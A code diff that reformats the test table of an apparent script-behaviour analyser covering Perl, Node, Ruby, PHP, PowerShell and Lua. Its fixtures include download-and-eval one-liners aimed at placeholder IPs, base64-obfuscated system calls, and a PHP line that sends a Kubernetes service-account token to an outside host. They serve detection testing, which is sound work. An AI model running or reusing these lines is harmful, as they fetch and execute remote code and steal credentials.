@@ -31,7 +31,10 @@ table('perl', [
   [
     'download and eval with LWP::Simple',
     'use LWP::Simple; my $x = get("http://203.0.113.1/p.pl"); eval $x;',
-    ['fetch GET http://203.0.113.1/p.pl', 'eval perl get("http://203.0.113.1/p.pl")~{net:http://203.0.113.1/p.pl}'],
+    [
+      'fetch GET http://203.0.113.1/p.pl',
+      'eval perl get("http://203.0.113.1/p.pl")~{net:http://203.0.113.1/p.pl}',
+    ],
   ],
   [
     'a decoded command',
@@ -43,7 +46,11 @@ table('perl', [
     'use IO::Socket; while (1) { my $s = IO::Socket::INET->new(PeerAddr => "postgres", PeerPort => 5432); last if $s; sleep 1; }',
     ['connect#0 tcp postgres:5432 (loop)'],
   ],
-  ['benign: printing a hash', 'print "hello\\n"; my %h = (a => 1); foreach my $k (keys %h) { print "$k\\n"; }', []],
+  [
+    'benign: printing a hash',
+    'print "hello\\n"; my %h = (a => 1); foreach my $k (keys %h) { print "$k\\n"; }',
+    [],
+  ],
 ]);
 
 table('node', [
@@ -78,7 +85,9 @@ table('node', [
   [
     'benign: fetch POST with an env token',
     'fetch("https://api.example.com/v1/items", {method: "POST", headers: {"Authorization": "Bearer " + process.env.TOKEN}, body: JSON.stringify({a: 1})}).then(r => r.json()).then(console.log)',
-    ['fetch POST https://api.example.com/v1/items headers=[Authorization: Bearer ${TOKEN}~{env:TOKEN}] body=a=1&~'],
+    [
+      'fetch POST https://api.example.com/v1/items headers=[Authorization: Bearer ${TOKEN}~{env:TOKEN}] body=a=1&~',
+    ],
   ],
   [
     'benign: a connection check',
@@ -106,9 +115,16 @@ table('ruby', [
   [
     'download and eval with Net::HTTP',
     'require \'net/http\'; eval(Net::HTTP.get(URI("http://203.0.113.4/r.rb")))',
-    ['fetch GET http://203.0.113.4/r.rb', 'eval ruby Net::HTTP.get(URI("http://203.0.113.4/r.rb"))~{net:http://203.0.113.4/r.rb}'],
+    [
+      'fetch GET http://203.0.113.4/r.rb',
+      'eval ruby Net::HTTP.get(URI("http://203.0.113.4/r.rb"))~{net:http://203.0.113.4/r.rb}',
+    ],
   ],
-  ['system by send and a decoded name', 'send(:system, Base64.decode64("aWQ="))', ['run shell=id{decoded:base64}']],
+  [
+    'system by send and a decoded name',
+    'send(:system, Base64.decode64("aWQ="))',
+    ['run shell=id{decoded:base64}'],
+  ],
   [
     'benign: Net::HTTP.post of JSON',
     "require 'net/http'; uri = URI('https://api.example.com/v1/report'); Net::HTTP.post(uri, '{\"ok\":true}', 'Content-Type' => 'application/json')",
@@ -136,9 +152,16 @@ table('php', [
   [
     'download and eval',
     'eval(file_get_contents("http://203.0.113.8/s.txt"));',
-    ['fetch GET http://203.0.113.8/s.txt', 'eval php file_get_contents("http://203.0.113.8/s.txt")~{net:http://203.0.113.8/s.txt}'],
+    [
+      'fetch GET http://203.0.113.8/s.txt',
+      'eval php file_get_contents("http://203.0.113.8/s.txt")~{net:http://203.0.113.8/s.txt}',
+    ],
   ],
-  ['a function name built from pieces', "$f='sys'.'tem'; $f(base64_decode('aWQ='));", ['run shell=id{decoded:base64}']],
+  [
+    'a function name built from pieces',
+    "$f='sys'.'tem'; $f(base64_decode('aWQ='));",
+    ['run shell=id{decoded:base64}'],
+  ],
   [
     'a token read and sent in a URL',
     "$t = file_get_contents('/var/run/secrets/kubernetes.io/serviceaccount/token'); file_get_contents('http://198.51.100.3/?t=' . $t);",
@@ -187,13 +210,23 @@ table('powershell', [
     "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))",
     ['eval powershell whoami{decoded:base64}', 'run argv=[whoami]'],
   ],
-  ['a TcpClient by its constructor', "$s = [System.Net.Sockets.TcpClient]::new('10.9.9.9', 8443)", ['connect#0 tcp 10.9.9.9:8443']],
+  [
+    'a TcpClient by its constructor',
+    "$s = [System.Net.Sockets.TcpClient]::new('10.9.9.9', 8443)",
+    ['connect#0 tcp 10.9.9.9:8443'],
+  ],
   [
     'benign: a webhook post',
     'Invoke-RestMethod -Uri "https://hooks.example.com/x" -Method Post -Body (@{text="done"} | ConvertTo-Json) -Headers @{Authorization="Bearer $env:TOKEN"}',
-    ['fetch POST https://hooks.example.com/x headers=[Authorization: Bearer ${TOKEN}~{env:TOKEN}] body=text=done&~'],
+    [
+      'fetch POST https://hooks.example.com/x headers=[Authorization: Bearer ${TOKEN}~{env:TOKEN}] body=text=done&~',
+    ],
   ],
-  ['benign: output and a pipeline of cmdlets', 'Write-Output "hello"; Get-ChildItem C:\\data | Measure-Object', []],
+  [
+    'benign: output and a pipeline of cmdlets',
+    'Write-Output "hello"; Get-ChildItem C:\\data | Measure-Object',
+    [],
+  ],
 ]);
 
 table('lua', [
@@ -214,7 +247,10 @@ table('lua', [
   [
     'download and loadstring',
     'local http = require("socket.http"); local body = http.request("http://203.0.113.12/p.lua"); loadstring(body)()',
-    ['fetch GET http://203.0.113.12/p.lua', 'eval lua http.request("http://203.0.113.12/p.lua")~{net:http://203.0.113.12/p.lua}'],
+    [
+      'fetch GET http://203.0.113.12/p.lua',
+      'eval lua http.request("http://203.0.113.12/p.lua")~{net:http://203.0.113.12/p.lua}',
+    ],
   ],
   ['benign: printing', 'print("hello " .. os.getenv("HOME"))', []],
 ]);
